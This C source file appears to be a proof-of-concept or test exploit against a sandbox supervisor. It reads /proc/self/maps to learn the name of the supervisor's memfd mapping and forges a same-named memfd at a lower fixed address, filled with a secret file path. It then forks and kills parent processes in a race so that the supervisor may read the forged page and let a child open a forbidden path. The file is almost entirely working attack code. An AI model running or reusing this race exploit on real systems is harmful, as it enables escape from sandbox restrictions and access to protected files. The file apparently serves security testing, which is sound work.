/* SPDX-License-Identifier: GPL-3.0-or-later */
/* A maker is killed before its child is told of: the supervisor has to look for the child's landing
 * page itself, and may find one of ours, by the same name and at a lower address. */
#include "race.h"

#define FORGED ((char *) 0x10000)
#define SIZE   0x10000

static char name[64];

/* What a mapping of a memfd is called. */
static void note(char *start, size_t size)
{
        char line[512];
        FILE *file = fopen("/proc/self/maps", "re");

        (void) size;
        while (file && fgets(line, sizeof(line), file))
                if ((char *) strtoul(line, NULL, 16) == start && strstr(line, "memfd:"))
                        sscanf(strstr(line, "memfd:"), "memfd:%63s", name);
        if (file)
                fclose(file);
}

static bool forge(void)
{
        int fd = (int) syscall(SYS_memfd_create, name, 0u);

        if (ftruncate(fd, SIZE) < 0 ||
            mmap(FORGED, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, fd, 0) !=
                    (void *) FORGED)
                return false;
        for (size_t offset = 0; offset + PATH_MAX <= SIZE; offset += PATH_MAX)
                strcpy(FORGED + offset, secret_path());
        close(fd);
        return true;
}

static void child(void)
{
        race_over = false;
        start_second_reader();
        for (int i = 0; i < 50; i++)
                close((int) syscall(SYS_openat, AT_FDCWD, allowed_path(), O_RDONLY, 0));
        _exit(0);
}

int main(void)
{
        each_foreign_mapping("r", note);
        if (!name[0] || !forge())
                supervisor_pid();
        for (int i = 0; i < 300; i++) {
                pid_t maker = fork();

                if (maker == 0) {
                        for (int made = 0; made < 50; made++)
                                if (fork() == 0)
                                        child();
                        _exit(0);
                }
                for (volatile int delay = 0; delay < 20000 + 1000 * i; delay++)
                        ;
                signal_process(maker, SIGKILL);
                wait_all();
        }
        return 0;
}
